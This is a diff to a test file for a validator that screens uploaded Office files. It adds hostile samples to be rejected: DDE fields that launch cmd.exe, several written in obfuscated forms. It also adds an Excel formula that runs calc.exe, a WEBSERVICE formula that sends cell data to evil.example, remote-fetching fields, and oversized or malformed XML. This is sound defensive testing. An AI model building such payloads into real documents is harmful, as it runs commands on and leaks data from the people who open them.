@@ -36,6 +36,23 @@ GOOD = {
     "a Word file": (made.office(), Format.DOCX),
     "a Word file with links": (made.linked("hyperlink", "https://fas.org/"), Format.DOCX),
     "a Word file with a chart's workbook": (made.nested(1), Format.DOCX),
+    "a Word file with fields": (
+        made.word(
+            made.runs(' HYPERLINK "https://fas.org/import" ') + made.runs("PAGE") + '<w:fldSimple w:instr="DATE"/>'
+            + made.runs(' TOC \\o "1-3" ').replace("shown", "DDE and IMPORT: a table")
+        ),
+        Format.DOCX,
+    ),
+    "a Word file with drawings of other programs": (
+        made.office(
+            a="image/svg+xml", b="application/vnd.openxmlformats-officedocument.vmlDrawing",
+            more={"x0.bin": '<!DOCTYPE svg><svg/>', "x1.bin": "<xml><br></xml>"},
+        ),
+        Format.DOCX,
+    ),
+    "an Excel file that computes": (
+        made.excel("IF('Mr. \"X\"'!A1=\"a|b\",SUM(B1:B9),\"IMAGE(1)\")&amp;my.image(2)"), Format.XLSX
+    ),
     "an Excel file": (made.office(made.EXCEL), Format.XLSX),
     "a table": (made.CSV, Format.CSV),
     "a table with a mark in front": (b"\xef\xbb\xbf" + made.CSV, Format.CSV),
@@ -70,7 +87,19 @@ MACROS = (
 FETCHES = (
     "The file fetches a template, picture or workbook from elsewhere when it is opened. "
     "Detach the template (Word: Developer, Document Template) or break the links "
-    "(Excel: Data, Edit Links), save it, then upload that."
+    "(Excel: Data, Edit Links or Queries & Connections), save it, then upload that."
+)
+FIELDS = (
+    "The document has fields that fetch or run something when it is opened. "
+    "In Word, press Ctrl+A and Ctrl+Shift+F9, which leaves what they show, save it, then upload that."
+)
+FORMULA = (
+    "The workbook has a formula that fetches or runs something when it is opened. "
+    "Replace it by its value (copy, paste as values), save it, then upload that."
+)
+MUCH_TEXT = (
+    "The file holds more than 60 MB of text and tables, or more than 20 MB in one of them. "
+    "Save a large table as CSV and a long text as PDF, then upload that."
 )
 NO_OFFICE = (
     "The file is damaged, or was not written by Word or Excel. "
@@ -244,6 +273,54 @@ HOSTILE = {
     "picture from elsewhere": (made.linked("image", "https://evil.example/i.png"), FETCHES),
     "page in Word": (made.linked("aFChunk", "page.html", "Internal"), FETCHES),
     "workbook from elsewhere": (made.linked("externalLinkPath", "//evil/a.xlsx", main=made.EXCEL), FETCHES),
+    "connection of a workbook": (made.linked("connections", "connections.xml", "Internal", made.EXCEL), FETCHES),
+    "linked values of another program": (made.linked("externalLink", "e.xml", "Internal", made.EXCEL), FETCHES),
+    "frame from elsewhere": (made.linked("frame", "https://evil.example/"), FETCHES),
+    "object from elsewhere": (made.linked("oleObject", "https://evil.example/a.xlsx"), MACROS),
+    "field that runs": (made.word(made.runs(r" DDEAUTO c:\windows\cmd.exe ")), FIELDS),
+    "field that runs, in pieces": (made.word(made.runs(" d", "dEa", "", "uto", " cmd ")), FIELDS),
+    "field that runs, in a simple one": (made.word('<w:fldSimple w:instr=" DDE cmd "/>'), FIELDS),
+    "field that runs, behind another name": (
+        made.word('<w:fldSimple x:instr="PAGE" w:instr="DDE cmd"/>'), FIELDS
+    ),
+    "field that runs, inside another": (made.word(made.runs(f"IF 1 = {made.runs('&#68;DE cmd')}")), FIELDS),
+    "field that runs, in crossed out words": (
+        made.word(made.runs("DDE cmd").replace("instrText", "delInstrText")), FIELDS
+    ),
+    "field that runs, made of fields": (made.word(made.runs(made.runs("QUOTE 68 68 69"), "cmd")), FIELDS),
+    "field that fetches a picture": (made.word(made.runs('INCLUDEPICTURE "//evil/a" \\d')), FIELDS),
+    "field that fetches words": (made.word(made.runs('INCLUDETEXT "//evil/a.docx"')), FIELDS),
+    "field that fetches, by its old name": (made.word(made.runs('Import "//evil/a.png"')), FIELDS),
+    "field that fetches part of a workbook": (made.word(made.runs('LINK Excel.Sheet.12 "//evil/a"')), FIELDS),
+    "field in another alphabet": (
+        made.office(more={"main.xml": f'<?xml version="1.0" encoding="UTF-16"?><d>{made.runs("DDE")}</d>'.encode("utf-16")}),
+        FIELDS,
+    ),
+    "field behind white paper": (
+        made.office(more={"a.xml": " \n" * 1_000_000 + f"<a>{made.runs('DDE')}</a>"}), FIELDS
+    ),
+    "field that comes late": (made.hesitating("a.xml", f"<a>{made.runs('DDE')}</a>".encode()), FIELDS),
+    "macros that come late": (made.hesitating("a.bin", made.OLD_OFFICE), MACROS),
+    "formula that runs": (made.excel("cmd|'/c calc.exe'!A0"), FORMULA),
+    "formula that runs, between names": (made.excel("'a\"'!A1+cmd|'/c calc'!A0+'b\"'!A1"), FORMULA),
+    "formula that fetches": (made.excel('_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)'), FORMULA),
+    "formula that fetches a picture": (made.excel('_xlfn.IMAGE ("https://evil.example/")'), FORMULA),
+    "name that fetches": (
+        made.office(made.EXCEL, more={"w.xml": "<a><definedName>RTD(1)</definedName></a>"}), FORMULA
+    ),
+    "words of its own for XML": (made.office(more={"a.xml": "<!DOCTYPE a><a/>"}), NO_OFFICE),
+    "XML that is cut off": (made.office(more={"a.xml": "<a><b>"}), NO_OFFICE),
+    "XML in an alphabet that few read": (
+        made.office(more={"a.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}), NO_OFFICE
+    ),
+    "elements in elements": (made.office(more={"a.xml": "<a>" * 1_001 + "</a>" * 1_001}), NO_OFFICE),
+    "tag without end": (made.office(more={"a.xml": b"<a b='" + b" " * 6_000_000}), NO_OFFICE),
+    "formula without end": (made.excel("1+" * 5_001), NO_OFFICE),
+    "field without end": (made.word(made.runs("1" * 5_000_001)), NO_OFFICE),
+    "part that unpacks to much": (made.office(more={"a.xml": b"<a>" + b" " * 20_000_000 + b"</a>"}), MUCH_TEXT),
+    "parts that unpack to much": (
+        made.office(more={f"{n}.xml": b"<a>" + b" " * 15_000_000 + b"</a>" for n in range(4)}), MUCH_TEXT
+    ),
     "template": (made.office(made.WORD.replace("document.main", "template.main")), OTHER_OFFICE),
     "slides": (made.office(made.SLIDES), OTHER_OFFICE),
     "old Word": (made.OLD_OFFICE, (
